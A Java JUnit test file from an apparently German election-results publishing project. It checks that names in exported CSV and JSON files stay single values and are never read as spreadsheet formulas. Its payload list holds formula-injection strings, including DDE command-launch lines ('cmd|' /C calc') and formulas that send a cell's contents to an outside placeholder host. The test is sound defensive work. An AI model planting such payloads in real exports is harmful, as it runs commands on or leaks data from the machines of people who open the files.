package org.urnengang.presentation;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.urnengang.ledger.json.JsonReader;
import org.urnengang.ledger.json.JsonValue;
import org.urnengang.ledger.json.JsonValue.JsonArray;
import org.urnengang.ledger.json.JsonValue.JsonObject;
import org.urnengang.ledger.json.JsonValue.JsonString;
import org.urnengang.presentation.result.DayState;

/** Names stay one value in every file, and no spreadsheet takes one for a formula. */
@Timeout(120)
class MarkupInDataTest {
  private static final String DAY = "/" + SmallDay.KEY + "/bundestagswahl";
  private static final String API = "/api/v1" + DAY + "/land/";
  private static final String NEWSROOM = "/20300505-probe/land/daten/opendata/";

  private static final List<String> TABLES =
      List.of(
          DAY + ".csv",
          DAY + "/options.csv",
          API + "level-municipality.csv",
          API + "kerg.csv",
          API + "owd-wahlparameter.csv",
          API + "owd-wahlgebietseinteilungen.csv",
          API + "owd-stimmzettel.csv",
          API + "owd-kandidaten.csv",
          API + "owd-wahlergebnisse.csv",
          NEWSROOM + "Open-Data-land-Bundestagswahl-Gemeinde.csv",
          NEWSROOM + "Open-Data-land-Bundestagswahl-Wahlbezirk.csv",
          NEWSROOM + "opendata-wahllokale.csv");

  private static final List<String> DATA =
      List.of(
          DAY + ".json",
          DAY + "/adorf.json",
          "/" + SmallDay.KEY + ".json",
          API + "nist.json",
          API + "areas.geojson",
          NEWSROOM + "open_data.json");

  /** Ways to have a spreadsheet calculate, or to break a row, one a line. */
  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "=cmd|' /C calc'!A0",
          "+1+1",
          "-1+1",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)",
          "=HYPERLINK(\"http://x\";\"x\")",
          "=IMPORTXML(CONCAT(\"http://x?v=\";A1);\"//a\")",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "a;b\";\"c",
          "\"",
          "\"\"",
          "a\nb;c\r\nd",
          "';=1+1");

  static Stream<String> payloads() {
    return Stream.concat(MarkupInNamesTest.payloads(), FORMULAS.stream());
  }

  private static DayState state(String name) {
    return MarkupInNamesTest.state(SmallDay.day(name, name));
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void a_name_is_one_cell_and_never_a_formula(String payload) {
    DayState plain = state("x");
    DayState odd = state(payload);
    for (String path : TABLES) {
      List<List<String>> rows = rows(MarkupInNamesTest.text(path, odd));
      assertThat(widths(rows)).as(path).isEqualTo(widths(rows(text(path, plain))));
      assertThat(rows.stream().flatMap(List::stream))
          .as(path)
          .noneMatch(cell -> !cell.isEmpty() && "=+@\t\r\n".indexOf(cell.charAt(0)) >= 0)
          .noneMatch(cell -> cell.startsWith("-") && !cell.matches("-[0-9.,]*"));
    }
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void newsrooms_may_split_rows_without_looking_at_quotes(String payload) {
    DayState odd = state(payload);
    for (String path : TABLES.stream().filter(one -> one.startsWith(NEWSROOM)).toList()) {
      List<String> lines = text(path, odd).lines().toList();
      int columns = lines.getFirst().split(";", -1).length;
      assertThat(lines)
          .as(path)
          .hasSameSizeAs(text(path, state("x")).lines().toList())
          .allSatisfy(line -> assertThat(line.split(";", -1)).hasSize(columns))
          .allSatisfy(line -> assertThat(line).doesNotContain("\""));
    }
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void a_name_is_one_text_of_the_json_and_nothing_else(String payload) {
    DayState odd = state(payload);
    DayState plain = state("x");
    for (String path : DATA) {
      JsonValue read = json(path, odd);
      assertThat(shape(read)).as(path).isEqualTo(shape(json(path, plain)));
    }
    assertThat(texts(json(DAY + "/adorf.json", odd))).contains(payload);
  }

  private static String text(String path, DayState state) {
    return MarkupInNamesTest.text(path, state);
  }

  private static JsonValue json(String path, DayState state) {
    return JsonReader.read(text(path, state).getBytes(UTF_8));
  }

  private static List<List<String>> rows(String csv) {
    List<List<String>> rows = new ArrayList<>();
    try (CsvReader<CsvRecord> reader =
        CsvReader.builder()
            .fieldSeparator(';')
            .skipEmptyLines(false)
            .allowUnclosedQuote(false)
            .ofCsvRecord(csv)) {
      reader.forEach(row -> rows.add(row.getFields()));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return rows;
  }

  private static List<Integer> widths(List<List<String>> rows) {
    return rows.stream().map(List::size).toList();
  }

  /** The value with every text taken out. */
  private static String shape(JsonValue value) {
    return switch (value) {
      case JsonObject object ->
          object.members().entrySet().stream()
              .map(member -> member.getKey() + shape(member.getValue()))
              .toList()
              .toString();
      case JsonArray array ->
          array.items().stream().map(MarkupInDataTest::shape).toList().toString();
      case JsonString _ -> "text";
      default -> "value";
    };
  }

  private static List<String> texts(JsonValue value) {
    return switch (value) {
      case JsonObject object ->
          object.members().values().stream().flatMap(one -> texts(one).stream()).toList();
      case JsonArray array -> array.items().stream().flatMap(one -> texts(one).stream()).toList();
      case JsonString(String text) -> List.of(text);
      default -> List.of();
    };
  }
}
